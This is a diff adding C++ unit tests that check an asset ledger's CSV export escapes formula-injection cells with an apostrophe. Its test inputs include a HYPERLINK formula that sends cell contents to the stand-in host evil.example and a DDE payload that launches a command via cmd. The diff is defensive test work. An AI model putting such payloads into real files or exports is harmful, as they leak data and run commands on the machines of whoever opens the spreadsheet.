@@ -113,3 +113,44 @@ TEST_CASE("ledger times are RFC 3339 UTC with whole seconds", "[ledger][time]") 
         CHECK_FALSE(parse_time_text(bad));
     }
 }
+
+TEST_CASE("exported cells that a spreadsheet would run as formulas start with an apostrophe", "[ledger][csv]") {
+    Asset asset = nasty_asset();
+    asset.name = "=HYPERLINK(\"http://evil.example/\"&A1,\"見積\")";
+    asset.remarks = "+81-3-1234";
+    asset.department = "-2+3";
+    asset.owner = "@SUM(A1:A9)";
+    asset.user_scope = "\tcmd";
+    asset.media_location = "\r=1+1";
+    asset.retention = "'=already quoted";
+    asset.status = "'plain apostrophe";
+    const std::string text = assets_to_csv(std::vector<Asset>{asset});
+    const std::string row = text.substr(header.size());
+    CHECK(row.starts_with("A-001,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"見積\"\")\",'+81-3-1234,'-2+3,'@SUM(A1:A9),"));
+    CHECK(row.find(",'\tcmd,") != std::string::npos);
+    CHECK(row.find("\"'\r=1+1\"") != std::string::npos);
+    CHECK(row.find(",''=already quoted,") != std::string::npos);
+    CHECK(row.find(",'plain apostrophe\r\n") != std::string::npos);
+    // Every cell of the row: none starts with a formula character.
+    auto records = detail::parse_csv(text);
+    REQUIRE(records);
+    for (const std::string& cell : (*records)[1]) {
+        CHECK((cell.empty() || std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos));
+    }
+    auto back = assets_from_csv(text);
+    REQUIRE(back);
+    REQUIRE(back->size() == 1);
+    CHECK(back->front() == asset);
+}
+
+TEST_CASE("event lists exported as CSV neutralise formulas too", "[ledger][csv]") {
+    EventRow row;
+    row.event.seq = 7;
+    row.event.time = "2025-06-02T01:00:00Z";
+    row.event.type = EventType::media_carry_out;
+    row.asset_id = "=cmd|' /C calc'!A0";
+    row.summary = "-1";
+    const std::string text = event_rows_to_csv(std::vector<EventRow>{row}, {});
+    CHECK(text.find(",'=cmd|' /C calc'!A0,") != std::string::npos);
+    CHECK(text.find(",'-1,") != std::string::npos);
+}
